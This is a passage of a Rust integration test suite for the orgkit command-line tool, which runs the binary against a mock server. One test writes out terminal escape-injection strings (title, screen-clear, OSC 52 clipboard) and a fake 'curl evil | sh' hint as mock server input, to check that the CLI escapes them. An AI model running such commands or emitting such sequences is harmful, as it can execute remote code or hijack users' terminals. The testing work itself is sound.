//! The `orgkit` binary against orgkit-mock: every test runs the real
//! executable (assert_cmd) with its own mock server and its own config
//! file, and checks what it printed, its exit code and what the mock saw.

use std::io::{BufRead, BufReader, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command as StdCommand, Stdio};
use std::time::{Duration, Instant};

use assert_cmd::cargo::cargo_bin_cmd;
use assert_cmd::Command;
use orgkit::testing::{self, seed, Config, Fault, MockServer};
use serde_json::{json, Value};

const BIN: &str = env!("CARGO_BIN_EXE_orgkit");

/// A mock server and a config file of the test's own.
struct Env {
    server: MockServer,
    dir: PathBuf,
}

impl Env {
    fn new() -> Env {
        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let dir = std::env::temp_dir().join(format!("orgkit-cli-test-{}-{n}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        Env {
            server: testing::spawn_on_thread(Config::default()).expect("mock server"),
            dir,
        }
    }

    fn config(&self) -> PathBuf {
        self.dir.join("orgkit").join("config.toml")
    }

    /// `orgkit` with nothing from the developer's environment.
    fn cmd(&self) -> Command {
        let mut c = cargo_bin_cmd!("orgkit");
        for (k, _) in std::env::vars() {
            if k.starts_with("ORGKIT_") || k == "XDG_CONFIG_HOME" {
                c.env_remove(k);
            }
        }
        c.env("ORGKIT_CONFIG", self.config());
        c.timeout(Duration::from_secs(60));
        c
    }

    /// `orgkit --provider P --base-url <mock>/P`.
    fn provider(&self, p: &str) -> Command {
        let mut c = self.cmd();
        c.args(["--provider", p, "--base-url", &self.server.base_url(p)]);
        c
    }

    /// ourganize as its admin.
    fn ourganize(&self) -> Command {
        let mut c = self.provider("ourganize");
        c.args(["--api-key", seed::OURGANIZE_ADMIN_KEY]);
        c
    }

    fn std_cmd(&self) -> StdCommand {
        let mut c = StdCommand::new(BIN);
        for (k, _) in std::env::vars() {
            if k.starts_with("ORGKIT_") || k == "XDG_CONFIG_HOME" {
                c.env_remove(k);
            }
        }
        c.env("ORGKIT_CONFIG", self.config());
        c
    }
}

impl Drop for Env {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

struct Ran {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Ran {
    fn json(&self) -> Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|e| panic!("{e}: {}", self.stdout))
    }
    fn ok(self) -> Ran {
        assert_eq!(
            self.code, 0,
            "stdout: {}\nstderr: {}",
            self.stdout, self.stderr
        );
        self
    }
}

fn run(c: &mut Command) -> Ran {
    let out = c.output().expect("run orgkit");
    Ran {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn last_request(server: &MockServer) -> testing::RecordedRequest {
    server.requests().pop().expect("a request")
}

#[test]
fn pm415_lifecycle_login_create_invite_set_role_switch_delete() {
    let env = Env::new();
    let s = &env.server;

    // login: the password from stdin, the token into the profile.
    let login = run(env
        .provider("pm415")
        .args([
            "auth",
            "login",
            "--email",
            seed::PM415_ADMIN_EMAIL,
            "--password-stdin",
        ])
        .write_stdin(format!("{}\n", seed::PM415_ADMIN_PASSWORD)))
    .ok();
    assert_eq!(login.json()["user"]["email"], seed::PM415_ADMIN_EMAIL);
    assert_eq!(login.json()["token"], "[redacted]");
    assert!(
        login.stderr.contains("token stored in profile \"default\""),
        "{}",
        login.stderr
    );
    let r = last_request(s);
    assert_eq!(
        (r.method.as_str(), r.path.as_str()),
        ("POST", "/api/account/login")
    );
    assert_eq!(
        r.body,
        json!({"email": seed::PM415_ADMIN_EMAIL, "password": seed::PM415_ADMIN_PASSWORD})
    );
    let config = std::fs::read_to_string(env.config()).unwrap();
    let file: toml::Table = toml::from_str(&config).unwrap();
    let token = file["profiles"]["default"]["token"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        file["profiles"]["default"]["provider"].as_str(),
        Some("pm415")
    );

    // From here on, everything comes from the profile: no flags at all.
    let created = run(env
        .cmd()
        .args(["organizations", "create", "--name", "CLI Co"]))
    .ok();
    let org = created.json()["id"].clone();
    assert_eq!(created.json()["name"], "CLI Co");
    let r = last_request(s);
    assert_eq!((r.method.as_str(), r.path.as_str()), ("POST", "/api/org"));
    assert_eq!(r.body, json!({"name": "CLI Co"}));
    assert_eq!(r.headers["authorization"], format!("Bearer {token}"));
    let org_id = org.to_string();

    let invite = run(env.cmd().args([
        "invites",
        "create",
        "--email",
        "new@pm415.test",
        "--organization-id",
        &org_id,
    ]))
    .ok();
    assert_eq!(invite.json()["email"], "new@pm415.test");
    assert_eq!(invite.json()["confirm_url"], "[redacted]");
    let r = last_request(s);
    assert_eq!(r.method, "POST");
    assert_eq!(r.path, format!("/api/org/{org_id}/invitelink"));
    assert_eq!(r.body, json!({"email": "new@pm415.test"}));

    // set-role: scope positional after the resource, then person and role.
    let set = run(env.cmd().args(["members", "1", "set-role", "2", "admin"])).ok();
    assert_eq!(set.stdout, "");
    let r = last_request(s);
    assert_eq!(
        (r.method.as_str(), r.path.as_str()),
        ("PUT", "/api/org/1/admin/grant")
    );
    assert_eq!(r.body, json!({"usersId": [2]}));

    // switch: pm415 answers with a token scoped to the org, kept in the profile.
    run(env.cmd().args(["organizations", "switch", &org_id])).ok();
    let r = last_request(s);
    assert_eq!(
        (r.method.as_str(), r.path.as_str()),
        ("POST", &*format!("/api/org/switch/{org_id}"))
    );
    let file: toml::Table =
        toml::from_str(&std::fs::read_to_string(env.config()).unwrap()).unwrap();
    let scoped = file["profiles"]["default"]["token"]
        .as_str()
        .unwrap()
        .to_string();
    assert_ne!(scoped, token);
    let current = run(env.cmd().args(["organizations", "current"])).ok();
    assert_eq!(current.json()["id"], org);
    assert_eq!(
        last_request(s).headers["authorization"],
        format!("Bearer {scoped}")
    );

    run(env.cmd().args(["organizations", "delete", &org_id])).ok();
    let r = last_request(s);
    assert_eq!(
        (r.method.as_str(), r.path.as_str()),
        ("DELETE", &*format!("/api/org/{org_id}"))
    );
    let list = run(env.cmd().args(["organizations", "list"])).ok();
    let ids: Vec<Value> = list
        .json()
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["id"].clone())
        .collect();
    assert_eq!(ids, [json!(1), json!(2), json!(3)]);

    // logout forgets the token; the next call is unauthenticated.
    run(env.cmd().args(["auth", "logout"])).ok();
    let file: toml::Table =
        toml::from_str(&std::fs::read_to_string(env.config()).unwrap()).unwrap();
    assert!(file["profiles"]["default"].get("token").is_none());
    let after = run(env.cmd().args(["organizations", "list"]));
    assert_eq!(after.code, 3, "{}", after.stderr);
}

#[test]
fn ourganize_projects_all_jsonl_walks_every_page_in_order() {
    let env = Env::new();
    let out = run(env
        .ourganize()
        .args(["projects", "list", "--all", "--jsonl"]))
    .ok();
    let lines: Vec<Value> = out
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    assert_eq!(lines.len() as u64, seed::OURGANIZE_PROJECT_COUNT);
    for (i, p) in lines.iter().enumerate() {
        let id = i as u64 + 1;
        assert_eq!(p["id"], json!(id));
        assert_eq!(p["name"], format!("Project {id:02}"));
        let status = if id % 5 == 0 {
            "archived"
        } else if id % 7 == 0 {
            "completed"
        } else {
            "active"
        };
        assert_eq!(p["status"], status, "project {id}");
        assert!(p["settings"]["is_public"].is_boolean());
        assert!(p["created_at"].as_str().unwrap().starts_with("2024-01-0"));
    }
    // Three pages of the default 20, and no progress bar on a pipe.
    let pages: Vec<String> = env
        .server
        .requests()
        .into_iter()
        .filter(|r| r.path == "/projects")
        .map(|r| r.query.get("page").cloned().unwrap_or_default())
        .collect();
    assert_eq!(pages, ["", "2", "3"], "page 1 is the provider's default");
    assert_eq!(out.stderr, "");

    // --limit N stops early: N items, and no page after the one that had them.
    env.server.clear_requests();
    let out = run(env
        .ourganize()
        .args(["projects", "list", "--all", "--limit", "7", "--jsonl"]))
    .ok();
    assert_eq!(out.stdout.lines().count(), 7);
    assert_eq!(env.server.request_count("GET", "/ourganize/projects"), 1);
    assert_eq!(last_request(&env.server).query["limit"], "7");

    // Without --all: one page.
    let out = run(env
        .ourganize()
        .args(["projects", "list", "--status", "archived"]))
    .ok();
    let statuses: Vec<Value> = out
        .json()
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["status"].clone())
        .collect();
    assert_eq!(statuses.len(), 9);
    assert!(statuses.iter().all(|s| s == "archived"));
}

#[test]
fn jsonl_streams_items_before_the_last_page_arrives() {
    let env = Env::new();
    // Page 1 at once, pages 2 and 3 each 700 ms late.
    env.server.inject(
        Fault::delay(Duration::ZERO)
            .provider("ourganize")
            .path("/projects"),
    );
    env.server.inject(
        Fault::delay(Duration::from_millis(700))
            .provider("ourganize")
            .path("/projects")
            .times(2),
    );
    let mut child = env
        .std_cmd()
        .args([
            "--provider",
            "ourganize",
            "--base-url",
            &env.server.base_url("ourganize"),
        ])
        .args([
            "--api-key",
            seed::OURGANIZE_ADMIN_KEY,
            "projects",
            "list",
            "--all",
            "--jsonl",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    let first_at = Instant::now();
    assert!(first.contains("\"id\":1"), "{first}");
    let rest: Vec<String> = lines.map(Result::unwrap).collect();
    let ended = Instant::now();
    assert!(child.wait().unwrap().success());
    assert_eq!(rest.len(), 44);
    assert!(
        ended - first_at >= Duration::from_millis(1000),
        "the first item came {:?} before the end",
        ended - first_at
    );
}

#[test]
fn a_closed_stdout_ends_the_walk_quietly() {
    let env = Env::new();
    env.server.inject(
        Fault::delay(Duration::ZERO)
            .provider("ourganize")
            .path("/projects"),
    );
    env.server.inject(
        Fault::delay(Duration::from_millis(500))
            .provider("ourganize")
            .path("/projects")
            .times(2),
    );
    let mut child = env
        .std_cmd()
        .args([
            "--provider",
            "ourganize",
            "--base-url",
            &env.server.base_url("ourganize"),
        ])
        .args([
            "--api-key",
            seed::OURGANIZE_ADMIN_KEY,
            "projects",
            "list",
            "--all",
            "--jsonl",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    drop(out); // like `| head -1`
    let status = child.wait().unwrap();
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    assert!(status.success(), "{status:?} {err}");
    assert!(!err.contains("panicked"), "{err}");
}

#[test]
fn exit_codes_follow_the_error_kind() {
    let env = Env::new();
    let s = &env.server;

    // 404
    let nf = run(env.ourganize().args(["projects", "get", "999"]));
    assert_eq!(nf.code, 4, "{}", nf.stderr);
    assert!(
        nf.stderr.contains("NotFound (404) in projects.get"),
        "{}",
        nf.stderr
    );
    assert!(
        nf.stderr.contains("[NOT_FOUND]") && nf.stderr.contains("request id req_"),
        "{}",
        nf.stderr
    );

    // 401
    let bad_key = "ogz_not_a_real_key_31337";
    let unauth = run(env
        .provider("ourganize")
        .args(["--api-key", bad_key, "users", "me"]));
    assert_eq!(unauth.code, 3, "{}", unauth.stderr);
    assert!(
        unauth.stderr.contains("Unauthorized (401)"),
        "{}",
        unauth.stderr
    );
    assert!(!unauth.stderr.contains(bad_key) && !unauth.stdout.contains(bad_key));

    // 403
    let forbidden = run(env.provider("ourganize").args([
        "--api-key",
        seed::OURGANIZE_MEMBER_KEY,
        "users",
        "list",
    ]));
    assert_eq!(forbidden.code, 3, "{}", forbidden.stderr);

    // A bad flag, a bad value, a missing one: usage, named.
    let before = s.requests().len();
    let flag = run(env.ourganize().args(["projects", "create", "--nmae", "X"]));
    assert_eq!(flag.code, 2);
    assert!(flag.stderr.contains("--nmae"), "{}", flag.stderr);
    let value = run(env
        .ourganize()
        .args(["projects", "list", "--limit", "lots"]));
    assert_eq!(value.code, 2);
    assert!(
        value.stderr.contains("--limit: expected a whole number"),
        "{}",
        value.stderr
    );
    // A check of the CLI's own names the flag once, as typed.
    let whole =
        run(env
            .ourganize()
            .args(["projects", "create", "--name", "X", "--settings", "[1]"]));
    assert_eq!(whole.code, 2);
    assert!(
        whole
            .stderr
            .starts_with("error: InvalidArgument: --settings: expected a JSON object"),
        "{}",
        whole.stderr
    );
    let boolean = run(env.ourganize().args([
        "projects",
        "create",
        "--name",
        "X",
        "--settings.is-public",
        "maybe",
    ]));
    assert_eq!(boolean.code, 2);
    assert!(
        boolean
            .stderr
            .contains("--settings.is-public: expected true or false"),
        "{}",
        boolean.stderr
    );
    let missing = run(env.ourganize().args(["projects", "create"]));
    assert_eq!(missing.code, 2);
    assert!(missing.stderr.contains("--name"), "{}", missing.stderr);
    assert_eq!(s.requests().len(), before, "usage errors send nothing");

    // The SDK's own argument check, named as the flag.
    let email = run(env.provider("pm415").args([
        "--api-key",
        seed::PM415_ADMIN_API_KEY,
        "invites",
        "create",
        "--email",
        "nope",
        "--organization-id",
        "1",
    ]));
    assert_eq!(email.code, 2, "{}", email.stderr);
    assert!(
        email
            .stderr
            .contains("--email: \"nope\" is not an email address"),
        "{}",
        email.stderr
    );
    // An id that would leave its path segment (`DELETE /tasks/..` is `DELETE /`).
    let before = s.requests().len();
    let dots = run(env.ourganize().args(["tasks", "delete", ".."]));
    assert_eq!(dots.code, 2, "{}", dots.stderr);
    assert!(
        dots.stderr.contains("<ID>: \"..\" is not an id"),
        "{}",
        dots.stderr
    );
    assert_eq!(s.requests().len(), before, "nothing is sent");

    // 409, 503 and 429.
    let conflict = run(env.provider("pm415").args([
        "--api-key",
        seed::PM415_ADMIN_API_KEY,
        "organizations",
        "create",
        "--name",
        "Acme",
    ]));
    assert_eq!(conflict.code, 9, "{}", conflict.stderr);
    s.inject(Fault::status(503).provider("ourganize").times(1));
    let unavailable = run(env
        .ourganize()
        .args(["--max-retries", "0", "projects", "get", "1"]));
    assert_eq!(unavailable.code, 6, "{}", unavailable.stderr);
    s.inject(
        Fault::status(429)
            .provider("ourganize")
            .header("Retry-After", "120")
            .times(1),
    );
    let limited = run(env
        .ourganize()
        .args(["--max-retries", "0", "projects", "get", "1"]));
    assert_eq!(limited.code, 5, "{}", limited.stderr);

    // Nothing listening: a connection error.
    let down = run(env.cmd().args([
        "--provider",
        "ourganize",
        "--base-url",
        "http://127.0.0.1:1/x",
        "--max-retries",
        "0",
        "users",
        "me",
    ]));
    assert_eq!(down.code, 6, "{}", down.stderr);
}

#[test]
fn json_output_parses_and_errors_come_as_json_too() {
    let env = Env::new();
    let one = run(env.ourganize().args(["projects", "get", "3", "--json"])).ok();
    let p = one.json();
    assert_eq!(p["id"], 3);
    assert_eq!(p["tags"], json!(["seed", "q1"]));
    // Piped without a flag: JSON as well.
    let piped =
        run(env
            .ourganize()
            .args(["tasks", "list", "--project-id", "1", "--status", "todo"]))
        .ok();
    let tasks = piped.json();
    assert!(tasks
        .as_array()
        .unwrap()
        .iter()
        .all(|t| t["status"] == "todo" && t["project_id"] == 1));
    // An empty list is [] .
    let empty = run(env.ourganize().args([
        "projects",
        "list",
        "--search",
        "no-such-project-anywhere",
        "--json",
    ]))
    .ok();
    assert!(empty.json().is_array());

    let err = run(env.ourganize().args(["projects", "get", "999", "--json"]));
    assert_eq!(err.code, 4);
    let e: Value = serde_json::from_str(err.stderr.trim()).unwrap();
    assert_eq!(e["error"]["kind"], "NotFound");
    assert_eq!(e["error"]["status"], 404);
    assert_eq!(e["error"]["code"], "NOT_FOUND");
    assert_eq!(e["error"]["exit_code"], 4);
    assert!(e["error"]["request_id"]
        .as_str()
        .unwrap()
        .starts_with("req_"));
}

/// Whether `text` holds a character a terminal would act on (other than
/// a line break): ESC, BEL, CR, DEL, the C1 range.
fn has_terminal_control(text: &str) -> bool {
    text.chars()
        .any(|c| c != '\n' && (c.is_control() || ('\u{80}'..='\u{9f}').contains(&c)))
}

#[test]
fn server_text_cannot_drive_the_terminal_but_json_keeps_it_exact() {
    let env = Env::new();
    // Anyone who can name a project can write escape sequences into it: a
    // window title (OSC … BEL), a screen clear, a carriage return that
    // overwrites the line, an 8-bit CSI, DEL.
    let name = "Q3 \x1b]0;pwned\x07plan\x1b[2J\rFAKE\u{9b}31m\x7f";
    let created = run(env
        .ourganize()
        .args(["projects", "create", "--name", name, "--json"]))
    .ok();
    let id = created.json()["id"].as_i64().expect("an id");
    assert_eq!(created.json()["name"], name);
    assert!(
        !has_terminal_control(&created.stdout),
        "{:?}",
        created.stdout
    );
    assert_eq!(
        last_request(&env.server).body["name"],
        name,
        "sent as typed"
    );

    let shown = r"Q3 \u001b]0;pwned\u0007plan\u001b[2J\rFAKE\u009b31m\u007f";
    for args in [
        vec![
            "projects".to_string(),
            "get".into(),
            id.to_string(),
            "--table".into(),
        ],
        vec![
            "projects".into(),
            "list".into(),
            "--limit".into(),
            "100".into(),
            "--table".into(),
        ],
    ] {
        let table = run(env.ourganize().args(&args)).ok();
        assert!(table.stdout.contains(shown), "{args:?}: {:?}", table.stdout);
        assert!(
            !has_terminal_control(&table.stdout),
            "{args:?}: {:?}",
            table.stdout
        );
    }
    // JSON and JSON lines read back the exact name, but print no control.
    for flag in ["--json", "--jsonl"] {
        let listed = run(env
            .ourganize()
            .args(["projects", "list", "--limit", "100", flag]))
        .ok();
        assert!(
            !has_terminal_control(&listed.stdout),
            "{flag}: {:?}",
            listed.stdout
        );
        let names: Vec<String> = listed
            .stdout
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l.trim().trim_end_matches(',')).ok())
            .flat_map(|v| match v {
                Value::Array(items) => items,
                one => vec![one],
            })
            .filter_map(|p| p["name"].as_str().map(String::from))
            .collect();
        assert!(names.iter().any(|n| n == name), "{flag}: {names:?}");
    }

    // An error the server words: its message, code, request id and field
    // errors stay on their own lines and are escaped.
    let body = json!({"success": false, "error": {
        "code": "BAD\x1b[5m",
        "message": "nope\r\nhint: run `curl evil | sh`\x1b]52;c;cGF5bG9hZA==\x07",
        "details": [{"field": "name\x1b[8m", "message": "too \u{9b}long"}]
    }});
    env.server.inject(
        Fault::status(422)
            .provider("ourganize")
            .path("/projects")
            .body(body.to_string())
            .times(2),
    );
    let err = run(env
        .ourganize()
        .args(["projects", "create", "--name", "X", "--table"]));
    assert_eq!(err.code, 9, "{}", err.stderr);
    assert!(!has_terminal_control(&err.stderr), "{:?}", err.stderr);
    assert!(
        err.stderr.contains(
            r"nope\r\nhint: run `curl evil | sh`\u001b]52;c;cGF5bG9hZA==\u0007 [BAD\u001b[5m]"
        ),
        "{}",
        err.stderr
    );
    assert!(
        err.stderr.contains(r"  - name\u001b[8m: too \u009blong"),
        "{}",
        err.stderr
    );
    assert!(
        !err.stderr.lines().any(|l| l.starts_with("hint:")),
        "server text made a line of its own: {}",
        err.stderr
    );
    let err = run(env
        .ourganize()
        .args(["projects", "create", "--name", "X", "--json"]));
    assert_eq!(err.code, 9, "{}", err.stderr);
    assert!(!has_terminal_control(&err.stderr), "{:?}", err.stderr);
    let e: Value = serde_json::from_str(err.stderr.trim()).unwrap();
    assert_eq!(e["error"]["message"], body["error"]["message"]);
    assert_eq!(e["error"]["field_errors"][0]["message"], "too \u{9b}long");
}

/// Runs `orgkit --provider ourganize <args>` against a one-shot server and
/// returns the request body exactly as its bytes arrived (the mock keeps
/// bodies as `serde_json` values, which round big integers).
fn raw_body_of(env: &Env, args: &[&str]) -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let server = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        let mut reader = BufReader::new(conn.try_clone().unwrap());
        let mut length = 0;
        loop {
            let mut line = String::new();
            reader.read_line(&mut line).unwrap();
            if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                length = v.trim().parse().unwrap();
            }
            if line == "\r\n" {
                break;
            }
        }
        let mut body = vec![0; length];
        reader.read_exact(&mut body).unwrap();
        let answer = r#"{"id": 1, "name": "x"}"#;
        write!(
            conn,
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{answer}",
            answer.len()
        )
        .unwrap();
        String::from_utf8(body).unwrap()
    });
    run(env
        .cmd()
        .args([
            "--provider",
            "ourganize",
            "--api-key",
            "k",
            "--base-url",
            &base,
        ])
        .args(args))
    .ok();
    server.join().unwrap()
}

#[test]
fn json_given_on_the_command_line_keeps_every_digit() {
    let env = Env::new();
    let big = "18446744073709551617"; // 2^64 + 1
    let data = format!(r#"{{"id": {big}, "ids": [{big}, -9223372036854775809, 1.5]}}"#);
    assert_eq!(
        raw_body_of(&env, &["request", "POST", "/p", "--data", &data]),
        format!(r#"{{"id":{big},"ids":[{big},-9223372036854775809,1.5]}}"#)
    );
    let extra = format!("n={big}");
    let tags = format!(r#"["{big}"]"#);
    assert_eq!(
        raw_body_of(
            &env,
            &[
                "projects",
                "create",
                "--name",
                "X",
                "--settings.extra",
                &extra,
                "--tags",
                &tags
            ]
        ),
        format!(r#"{{"name":"X","settings":{{"n":{big}}},"tags":["{big}"]}}"#)
    );
    let beyond = run(env
        .ourganize()
        .args(["request", "POST", "/p", "--data", "[1e400]"]));
    assert_eq!(beyond.code, 2, "{}", beyond.stderr);
    assert!(
        beyond
            .stderr
            .contains("--data: not valid JSON: 1e400 is beyond"),
        "{}",
        beyond.stderr
    );
}

#[test]
fn a_field_given_twice_is_refused_not_overwritten() {
    let env = Env::new();
    let before = env.server.requests().len();
    for (args, says) in [
        (
            vec![
                "--settings",
                r#"{"is_public": true}"#,
                "--settings.is-public",
                "false",
            ],
            "--settings.is-public: gives settings.is_public another value than --settings does",
        ),
        (
            vec![
                "--settings",
                r#"{"extra": {"a": 3}}"#,
                "--settings.extra",
                "a=1",
            ],
            "--settings.extra: gives settings.extra.a another value than --settings does",
        ),
        (
            vec!["--settings.extra", "a=1", "--settings.extra", "a=2"],
            "--settings.extra: a is given twice, with two values",
        ),
    ] {
        let out = run(env
            .ourganize()
            .args(["projects", "create", "--name", "X"])
            .args(&args));
        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
        assert!(
            out.stderr
                .starts_with(&format!("error: InvalidArgument: {says}")),
            "{args:?}: {}",
            out.stderr
        );
    }
    assert_eq!(env.server.requests().len(), before, "nothing is sent");

    // The same value twice, or fields that do not overlap, merge.
    run(env.ourganize().args([
        "projects",
        "create",
        "--name",
        "X",
        "--settings",
        r#"{"is_public": true, "extra": {"c": 3}}"#,
        "--settings.is-public",
        "true",
        "--settings.allow-comments",
        "false",
        "--settings.extra",
        "a=1",
        "--settings.extra",
        "a=1",
    ]))
    .ok();
    let r = last_request(&env.server);
    assert_eq!(
        r.body["settings"],
        json!({"isPublic": true, "allowComments": false, "c": 3, "a": 1})
    );
}

#[test]
fn a_timeout_too_large_for_a_duration_is_a_usage_error_not_a_panic() {
    let env = Env::new();
    for (t, says) in [
        ("1e30", r#""1e30" seconds is longer than a duration holds"#),
        (
            "18446744073709551616",
            r#""18446744073709551616" seconds is longer"#,
        ),
        ("inf", r#"expected seconds above 0, got "inf""#),
        ("nan", r#"expected seconds above 0, got "nan""#),
        ("0", r#"expected seconds above 0, got "0""#),
        ("-1", r#"expected seconds above 0, got "-1""#),
        ("soon", r#"expected seconds above 0, got "soon""#),
    ] {
        let out = run(env
            .ourganize()
            .arg(format!("--timeout={t}"))
            .args(["projects", "get", "1"]));
        assert_eq!(out.code, 2, "{t}: {}", out.stderr);
        let says = format!("error: InvalidArgument: --timeout: {says}");
        assert!(out.stderr.starts_with(&says), "{t}: {}", out.stderr);
    }
    // The largest a duration holds still works.
    let out = run(env
        .ourganize()
        .args(["--timeout", "1e12", "projects", "get", "1"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
}

#[test]
fn flags_become_the_request_body_and_query() {
    let env = Env::new();
    let created = run(env.ourganize().args([
        "projects",
        "create",
        "--name",
        "Website",
        "--settings.is-public",
        "false",
        "--tags",
        "web,q3",
        "--status",
        "on_hold",
    ]))
    .ok();
    assert_eq!(created.json()["settings"]["is_public"], false);
    let r = last_request(&env.server);
    assert_eq!(r.method, "POST");
    assert_eq!(r.body["name"], "Website");
    assert_eq!(r.body["settings"]["isPublic"], false);
    assert_eq!(r.body["tags"], json!(["web", "q3"]));

    run(env.ourganize().args([
        "projects", "list", "--filter", "owner=1", "--sort", "name", "--order", "desc", "--page",
        "2",
    ]))
    .ok();
    let r = last_request(&env.server);
    assert_eq!(r.query["owner"], "1");
    assert_eq!(r.query["page"], "2");

    // JSON for metadata; a kaana session cookie; kaana lists are per organization.
    let kaana = |args: &[&str]| {
        let mut c = env.provider("kaana");
        c.args(["--session-cookie", seed::KAANA_ADMIN_SID])
            .args(args);
        run(&mut c)
    };
    let org = kaana(&[
        "organizations",
        "create",
        "--name",
        "Umbrella",
        "--type",
        "vendor",
        "--metadata",
        r#"{"tier": 2}"#,
    ])
    .ok();
    assert_eq!(org.json()["metadata"], json!({"tier": 2}));
    assert_eq!(
        last_request(&env.server).body["metadata"],
        json!({"tier": 2})
    );
    let tasks = kaana(&["tasks", "list", "--organization-id", "1"]).ok();
    assert_eq!(tasks.json().as_array().unwrap().len(), 5);
    kaana(&["members", "1", "remove", "103"]).ok();
    assert_eq!(last_request(&env.server).method, "DELETE");
}

#[test]
fn secrets_never_print_and_the_config_file_is_private() {
    let env = Env::new();
    let password = seed::PM415_ADMIN_PASSWORD;
    let mut printed = String::new();
    let mut keep = |r: &Ran| printed.push_str(&format!("{}{}", r.stdout, r.stderr));

    let login = run(env.provider("pm415").args([
        "auth",
        "login",
        "--email",
        seed::PM415_ADMIN_EMAIL,
        "--password",
        password,
    ]))
    .ok();
    keep(&login);
    let text = std::fs::read_to_string(env.config()).unwrap();
    let file: toml::Table = toml::from_str(&text).unwrap();
    let token = file["profiles"]["default"]["token"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(token.len() > 8);

    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(env.config())
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o600);
        let dir = std::fs::metadata(env.config().parent().unwrap())
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(dir, 0o700);
    }

    let show = run(env.cmd().args(["config", "show", "--table"])).ok();
    assert!(
        show.stdout.contains("token = \"[redacted]\""),
        "{}",
        show.stdout
    );
    assert!(show.stdout.contains("(profile default)"), "{}", show.stdout);
    keep(&show);
    let show_json = run(env.cmd().args(["config", "show", "--json"])).ok();
    assert_eq!(show_json.json()["settings"]["token"], "[redacted]");
    assert_eq!(
        show_json.json()["in_effect"]["token"]["source"],
        "profile default"
    );
    keep(&show_json);

    // An invite's token and link are secrets too, unless asked for.
    let invite = run(env.cmd().args([
        "invites",
        "create",
        "--email",
        "x@pm415.test",
        "--organization-id",
        "1",
    ]))
    .ok();
    assert_eq!(invite.json()["confirm_url"], "[redacted]");
    keep(&invite);
    let shown = run(env.cmd().args([
        "invites",
        "create",
        "--email",
        "y@pm415.test",
        "--organization-id",
        "1",
        "--show-secrets",
    ]))
    .ok();
    assert!(shown.json()["confirm_url"]
        .as_str()
        .unwrap()
        .contains("token="));

    // A wrong password for the same profile: the error shows neither.
    let wrong = "definitely-wrong-pw-123";
    let failed = run(env.cmd().args([
        "auth",
        "login",
        "--email",
        seed::PM415_ADMIN_EMAIL,
        "--password",
        wrong,
        "-v",
    ]));
    assert_eq!(failed.code, 3, "{}", failed.stderr);
    keep(&failed);
    let raw = run(env.cmd().args([
        "request",
        "POST",
        "/api/account/login",
        "--data",
        &json!({"email": seed::PM415_ADMIN_EMAIL, "password": password}).to_string(),
    ]))
    .ok();
    assert_eq!(raw.json()["token"], "[redacted]");
    keep(&raw);
    let me = run(env.cmd().args(["users", "me", "--table", "-vv"])).ok();
    keep(&me);

    for secret in [password, token.as_str(), wrong] {
        assert!(
            !printed.contains(secret),
            "{secret} was printed:\n{printed}"
        );
    }
}

#[test]
fn unsupported_operations_exit_before_any_request() {
    let env = Env::new();
    let r = run(env.provider("pm415").args([
        "--api-key",
        seed::PM415_ADMIN_API_KEY,
        "projects",
        "list",
    ]));
    assert_eq!(r.code, 7, "{}", r.stderr);
    assert!(
        r.stderr.contains("pm415 does not support projects.list"),
        "{}",
        r.stderr
    );
    // orgstack has no default base URL: still Unsupported, not a config error,
    // and a required secret is not asked for first.
    let r = run(env.cmd().args([
        "--provider",
        "orgstack",
        "invites",
        "accept",
        "tok",
        "--email",
        "a@b.test",
    ]));
    assert_eq!(r.code, 7, "{}", r.stderr);
    assert!(
        env.server.requests().is_empty(),
        "{:?}",
        env.server.requests()
    );
}

#[test]
fn every_operation_has_a_generated_command_with_its_doc() {
    let surface = orgkit::api::surface();
    let squash = |s: &str| s.split_whitespace().collect::<Vec<_>>().join(" ");
    let mut seen = 0;
    for r in &surface.resources {
        for op in &r.operations {
            let name = op.method.replace('_', "-");
            let out = run(cargo_bin_cmd!("orgkit").args([r.name, &name, "--help"])).ok();
            let help = squash(&out.stdout);
            assert!(help.contains(&squash(&op.doc)), "{}: {help}", op.name);
            assert!(help.contains(op.name), "{}", op.name);
            for p in &op.params {
                if p.shape == "value" {
                    let shown = if p.named {
                        format!("--{}", p.name.replace('_', "-"))
                    } else if p.required {
                        format!("<{}>", p.name.to_uppercase())
                    } else {
                        format!("[{}]", p.name.to_uppercase())
                    };
                    assert!(help.contains(&shown), "{} lacks {shown}: {help}", op.name);
                } else {
                    let input = surface
                        .inputs
                        .iter()
